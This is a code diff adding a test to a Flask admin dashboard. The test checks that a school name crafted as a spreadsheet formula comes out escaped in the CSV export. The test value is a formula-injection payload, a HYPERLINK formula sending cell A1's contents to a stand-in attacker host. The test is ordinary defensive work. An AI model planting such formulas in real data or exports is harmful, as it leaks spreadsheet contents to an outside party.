@@ -218,3 +218,14 @@ def test_the_csv_needs_a_signed_in_login(client: Any) -> None:
     response = client.get("/admin/dashboard.csv")
     assert response.status_code == 302
     assert "/admin/login" in response.headers["Location"]
+
+
+def test_a_school_name_cannot_become_a_formula_in_the_csv(app: Flask, auth: AuthActions) -> None:
+    with app.app_context():
+        school = dbsession().scalars(select(School).where(School.slug == "lincoln")).one()
+        school.name = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+        db.session.commit()
+    auth.login_as("admin")
+    body = auth.client.get("/admin/dashboard.csv").get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(body)))
+    assert {row[1] for row in rows[1:]} == {'\'=HYPERLINK("https://evil.example/?"&A1,"open")'}
